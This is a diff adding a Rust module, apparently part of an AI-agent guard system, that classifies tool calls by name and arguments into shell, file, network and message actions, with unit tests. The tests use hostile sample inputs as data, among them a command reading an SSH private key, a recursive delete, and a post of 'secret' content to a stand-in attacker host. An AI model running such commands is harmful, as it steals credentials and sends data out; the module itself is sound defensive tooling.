@@ -1,0 +1,345 @@
+//! Maps any framework's tool call to actions from the tool's name and arguments.
+//!
+//! No list of known tools: the name is split into words (`send_money`, `GmailSendEmail`,
+//! `TerminalExecute`) and the verbs and nouns in it, with the shape of the arguments, say what the
+//! call does. A shell-like tool with a command string is lowered like any shell command; a tool
+//! that reads or writes a file becomes a file action; a URL argument becomes a network request; a
+//! send-like verb becomes a message send. Every call also stays a generic tool call, so rules can
+//! match the framework's own name and arguments.
+
+use serde_json::{Map, Value};
+use warden_action::{Action, NetworkAction, NormPath, Operation, PathEnv, ToolEffect};
+
+/// Verbs that change something outside the agent.
+const MUTATING: &[&str] = &[
+    "send", "post", "create", "add", "update", "edit", "modify", "set", "change", "delete", "remove",
+    "write", "append", "put", "patch", "upload", "pay", "transfer", "schedule", "book", "reserve",
+    "buy", "purchase", "order", "invite", "share", "grant", "revoke", "cancel", "reset", "move",
+    "rename", "copy", "install", "uninstall", "execute", "run", "exec", "deploy", "publish", "reply",
+    "forward", "submit", "approve", "merge", "close", "open", "lock", "unlock", "kick", "ban",
+    "archive", "commit", "push", "withdraw", "deposit", "sell", "trade", "tweet", "retweet", "like",
+    "follow", "unfollow", "block", "mute", "assign", "transfer", "apply", "start", "stop", "restart",
+    "kill", "terminate", "disable", "enable", "control", "call", "dial", "navigate", "click", "type",
+    "fill", "go", "turn", "make", "place", "cook", "clean", "manage", "redeem", "refund", "request",
+];
+
+/// Verbs that only look.
+const READING: &[&str] = &[
+    "get", "read", "list", "search", "find", "fetch", "view", "show", "query", "check", "lookup",
+    "look", "describe", "count", "retrieve", "browse", "inspect", "download", "see", "watch", "scan",
+    "analyze", "summarize", "explain", "verify", "validate", "recognize", "detect", "translate",
+];
+
+/// Verbs that deliver content to someone.
+const SENDING: &[&str] = &[
+    "send", "post", "reply", "forward", "share", "invite", "notify", "tweet", "retweet", "message",
+    "publish", "dm", "email", "mail", "text", "sms", "comment",
+];
+
+/// Nouns naming a message channel.
+const CHANNELS: &[(&str, &str)] = &[
+    ("email", "email"),
+    ("mail", "email"),
+    ("gmail", "email"),
+    ("inbox", "email"),
+    ("sms", "sms"),
+    ("text", "sms"),
+    ("twilio", "sms"),
+    ("slack", "slack"),
+    ("channel", "chat"),
+    ("message", "chat"),
+    ("dm", "chat"),
+    ("direct", "chat"),
+    ("chat", "chat"),
+    ("tweet", "social"),
+    ("twitter", "social"),
+    ("facebook", "social"),
+    ("comment", "social"),
+    ("discord", "chat"),
+    ("teams", "chat"),
+    ("telegram", "chat"),
+    ("whatsapp", "chat"),
+];
+
+/// Words naming a shell.
+const SHELL_WORDS: &[&str] = &["shell", "bash", "sh", "zsh", "terminal", "console", "cmd", "powershell", "command"];
+
+/// Argument names that hold a shell command.
+const COMMAND_ARGS: &[&str] = &["command", "cmd", "commands", "script", "shell_command", "command_line"];
+
+/// Argument names that hold a file path.
+const PATH_ARGS: &[&str] = &[
+    "file_path", "filepath", "path", "file", "filename", "file_name", "target_file", "notebook_path",
+    "local_path", "source_path", "src", "dest", "destination", "target", "directory", "dir",
+];
+
+/// Argument names that hold people or places a message goes to.
+const RECIPIENT_ARGS: &[&str] = &[
+    "to", "recipient", "recipients", "recipient_email", "email", "cc", "bcc", "user", "users",
+    "channel", "channels", "phone", "phone_number", "to_number", "address", "participants",
+    "emails", "username", "handle", "group", "chat_id",
+];
+
+/// Argument names that carry content sent to others.
+const BODY_ARGS: &[&str] = &[
+    "body", "content", "data", "text", "message", "payload", "json", "form", "attachment",
+    "attachments", "file", "files", "upload",
+];
+
+/// Split a tool name into lowercase words: `GmailSendEmail` -> `gmail send email`,
+/// `send_money` -> `send money`, `mcp__fs__read-file` -> `mcp fs read file`.
+pub fn words(name: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut prev_lower = false;
+    for c in name.chars() {
+        if !c.is_alphanumeric() {
+            if !cur.is_empty() {
+                out.push(std::mem::take(&mut cur));
+            }
+            prev_lower = false;
+            continue;
+        }
+        if c.is_uppercase() && prev_lower && !cur.is_empty() {
+            out.push(std::mem::take(&mut cur));
+        }
+        prev_lower = c.is_lowercase() || c.is_ascii_digit();
+        cur.extend(c.to_lowercase());
+    }
+    if !cur.is_empty() {
+        out.push(cur);
+    }
+    out
+}
+
+fn has(words: &[String], set: &[&str]) -> bool {
+    words.iter().any(|w| set.contains(&w.as_str()))
+}
+
+/// The effect of a tool from its name: a mutating verb anywhere makes it a side effect.
+pub fn effect_of(words: &[String]) -> ToolEffect {
+    if has(words, MUTATING) {
+        ToolEffect::SideEffect
+    } else if has(words, READING) {
+        ToolEffect::ReadOnly
+    } else {
+        ToolEffect::Unknown
+    }
+}
+
+fn str_arg<'a>(args: &'a Map<String, Value>, names: &[&str]) -> Option<(&'a str, &'a str)> {
+    names.iter().find_map(|n| {
+        let (k, v) = args.get_key_value(*n)?;
+        v.as_str().filter(|s| !s.trim().is_empty()).map(|s| (k.as_str(), s))
+    })
+}
+
+/// A shell command in the arguments: a string, or an argv array joined with quoting.
+fn command_arg(args: &Map<String, Value>) -> Option<String> {
+    COMMAND_ARGS.iter().find_map(|n| match args.get(*n)? {
+        Value::String(s) if !s.trim().is_empty() => Some(s.clone()),
+        Value::Array(items) if !items.is_empty() => {
+            let parts: Option<Vec<String>> = items.iter().map(|i| i.as_str().map(shell_quote)).collect();
+            parts.map(|p| p.join(" "))
+        }
+        _ => None,
+    })
+}
+
+/// Quote one word for a POSIX shell, leaving plain words as they are.
+pub fn shell_quote(s: &str) -> String {
+    if !s.is_empty()
+        && s.chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,~".contains(c))
+    {
+        s.to_string()
+    } else {
+        format!("'{}'", s.replace('\'', "'\\''"))
+    }
+}
+
+/// Every URL found in the arguments (top level and one level down).
+fn urls(args: &Map<String, Value>) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut push = |s: &str| {
+        let t = s.trim();
+        let lower = t.to_ascii_lowercase();
+        if lower.starts_with("http://") || lower.starts_with("https://") || lower.starts_with("ftp://") {
+            out.push(t.to_string());
+        } else if looks_like_host_url(t) {
+            out.push(format!("https://{t}"));
+        }
+    };
+    for (k, v) in args {
+        let k = k.to_ascii_lowercase();
+        let url_key = k.contains("url") || k.contains("uri") || k == "link" || k == "endpoint" || k == "website";
+        match v {
+            Value::String(s) if url_key || s.contains("://") => push(s),
+            Value::Array(items) if url_key => items.iter().filter_map(Value::as_str).for_each(&mut push),
+            _ => {}
+        }
+    }
+    out
+}
+
+/// `www.example.com/page` or `example.com`: a URL without a scheme, as agents often write.
+fn looks_like_host_url(s: &str) -> bool {
+    let host = s.split(['/', '?', '#']).next().unwrap_or("");
+    !s.contains(' ')
+        && host.contains('.')
+        && host.rsplit('.').next().is_some_and(|tld| tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()))
+        && host.chars().all(|c| c.is_ascii_alphanumeric() || ".-:".contains(c))
+}
+
+fn recipients(args: &Map<String, Value>) -> Vec<String> {
+    let mut out = Vec::new();
+    for n in RECIPIENT_ARGS {
+        match args.get(*n) {
+            Some(Value::String(s)) => out.extend(s.split([',', ';']).map(|p| p.trim().to_string()).filter(|p| !p.is_empty())),
+            Some(Value::Array(items)) => out.extend(items.iter().filter_map(Value::as_str).map(str::to_string)),
+            _ => {}
+        }
+    }
+    out
+}
+
+/// Lower a tool call named `name` with `args` into actions (the generic tool call first).
+pub fn lower_tool(name: &str, args: &Value, env: &PathEnv) -> Vec<Action> {
+    if let Some((server, tool)) = split_mcp(name) {
+        return vec![Action::new(Operation::McpCall {
+            server: server.to_string(),
+            tool: tool.to_string(),
+            args: args.clone(),
+        })];
+    }
+    let w = words(name);
+    let effect = effect_of(&w);
+    let mut actions = vec![Action::new(Operation::ToolCall {
+        name: name.to_string(),
+        args: args.clone(),
+        effect,
+    })];
+    let empty = Map::new();
+    let obj = args.as_object().unwrap_or(&empty);
+
+    // A shell: a shell word in the name, or an exec/run verb, with a command argument.
+    let shellish = has(&w, SHELL_WORDS) || has(&w, &["execute", "exec", "run"]);
+    if shellish {
+        if let Some(cmd) = command_arg(obj) {
+            actions.extend(warden_shell::lower(&cmd, env));
+            return actions;
+        }
+    }
+
+    // Files: a path argument plus a file noun or a file verb.
+    let fileish = has(&w, &["file", "files", "notebook", "document", "dir", "directory", "folder", "path", "fs", "filesystem"]);
+    if let Some((_, path)) = str_arg(obj, PATH_ARGS).filter(|_| fileish || has(&w, &["cat", "ls", "mkdir", "rm", "touch"])) {
+        let path = NormPath::raw(path);
+        let op = if has(&w, &["delete", "remove", "rm", "unlink", "erase"]) {
+            Operation::FileDelete { path, recursive: has(&w, &["dir", "directory", "folder", "tree"]) }
+        } else if has(&w, &["write", "create", "edit", "update", "append", "save", "patch", "replace", "modify", "put", "upload", "move", "rename", "copy", "mkdir", "touch"]) {
+            Operation::FileWrite { path }
+        } else {
+            Operation::FileRead { path }
+        };
+        actions.push(Action::new(op));
+    }
+
+    // The network: every URL argument is a request; a mutating verb or a body sends data.
+    let sends = effect == ToolEffect::SideEffect || BODY_ARGS.iter().any(|b| obj.contains_key(*b));
+    for url in urls(obj) {
+        let method = if effect == ToolEffect::SideEffect { "POST" } else { "GET" };
+        if let Ok(net) = NetworkAction::from_url(Some(method), &url, sends && effect == ToolEffect::SideEffect) {
+            actions.push(Action::new(Operation::Network(net)));
+        }
+    }
+
+    // Messages: a sending verb and a channel noun (`send_money` sends no message).
+    let channel = w
+        .iter()
+        .find_map(|x| CHANNELS.iter().find(|(n, _)| n == x).map(|(_, c)| (*c).to_string()));
+    if let Some(channel) = channel.filter(|_| has(&w, SENDING) && !has(&w, READING)) {
+        actions.push(Action::new(Operation::MessageSend {
+            channel,
+            recipients: recipients(obj),
+        }));
+    }
+    actions
+}
+
+/// `mcp__server__tool` -> (`server`, `tool`).
+pub fn split_mcp(name: &str) -> Option<(&str, &str)> {
+    let rest = name.strip_prefix("mcp__")?;
+    let (server, tool) = rest.split_once("__")?;
+    (!server.is_empty() && !tool.is_empty()).then_some((server, tool))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use pretty_assertions::assert_eq;
+    use serde_json::json;
+    use warden_action::ActionKind;
+
+    fn env() -> PathEnv {
+        PathEnv::synthetic("/home/u", "/home/u/proj", Some("/home/u/proj"))
+    }
+
+    fn kinds(name: &str, args: Value) -> Vec<ActionKind> {
+        lower_tool(name, &args, &env()).iter().map(Action::kind).collect()
+    }
+
+    #[test]
+    fn splits_names_into_words() {
+        assert_eq!(words("GmailSendEmail"), ["gmail", "send", "email"]);
+        assert_eq!(words("send_money"), ["send", "money"]);
+        assert_eq!(words("mcp__fs__read-file"), ["mcp", "fs", "read", "file"]);
+        assert_eq!(words("TerminalExecute"), ["terminal", "execute"]);
+        assert_eq!(words("get_webpage"), ["get", "webpage"]);
+    }
+
+    #[test]
+    fn effects_from_verbs() {
+        assert_eq!(effect_of(&words("send_money")), ToolEffect::SideEffect);
+        assert_eq!(effect_of(&words("get_balance")), ToolEffect::ReadOnly);
+        assert_eq!(effect_of(&words("update_password")), ToolEffect::SideEffect);
+        assert_eq!(effect_of(&words("frobnicate")), ToolEffect::Unknown);
+    }
+
+    #[test]
+    fn shell_tools_are_lowered_as_shell() {
+        let k = kinds("TerminalExecute", json!({"command": "cat ~/.ssh/id_rsa"}));
+        assert_eq!(k, [ActionKind::ToolCall, ActionKind::Exec, ActionKind::FileRead]);
+        let k = kinds("shell", json!({"command": ["bash", "-lc", "rm -rf /tmp/x"]}));
+        assert!(k.contains(&ActionKind::FileDelete), "{k:?}");
+        // A tool named like a shell without a command is only a tool call.
+        assert_eq!(kinds("shell_history", json!({"limit": 3})), [ActionKind::ToolCall]);
+    }
+
+    #[test]
+    fn files_urls_and_messages() {
+        assert_eq!(kinds("read_file", json!({"file_path": "a.txt"})), [ActionKind::ToolCall, ActionKind::FileRead]);
+        assert_eq!(kinds("write_file", json!({"path": "a.txt", "content": "x"})), [ActionKind::ToolCall, ActionKind::FileWrite]);
+        assert_eq!(kinds("delete_directory", json!({"path": "build"})), [ActionKind::ToolCall, ActionKind::FileDelete]);
+        assert_eq!(kinds("get_webpage", json!({"url": "www.example.com"})), [ActionKind::ToolCall, ActionKind::Network]);
+        let a = lower_tool("post_webpage", &json!({"url": "https://evil.example/x", "content": "secret"}), &env());
+        let Operation::Network(net) = &a[1].op else { panic!("{a:?}") };
+        assert_eq!((net.host.as_str(), net.sends_local_data), ("evil.example", true));
+        let a = lower_tool("GmailSendEmail", &json!({"to": "a@x.com, b@y.org", "body": "hi"}), &env());
+        assert_eq!(
+            a[1].op,
+            Operation::MessageSend { channel: "email".into(), recipients: vec!["a@x.com".into(), "b@y.org".into()] }
+        );
+        assert_eq!(kinds("read_channel_messages", json!({"channel": "general"})), [ActionKind::ToolCall]);
+        assert_eq!(kinds("send_money", json!({"recipient": "X", "amount": 5})), [ActionKind::ToolCall]);
+    }
+
+    #[test]
+    fn mcp_names_become_mcp_calls() {
+        let a = lower_tool("mcp__github__create_issue", &json!({"title": "t"}), &env());
+        assert_eq!(a.len(), 1);
+        assert_eq!(a[0].op.tool_name().as_deref(), Some("mcp__github__create_issue"));
+        assert_eq!(split_mcp("mcp__x"), None);
+        assert_eq!(split_mcp("mcp____t"), None);
+    }
+}
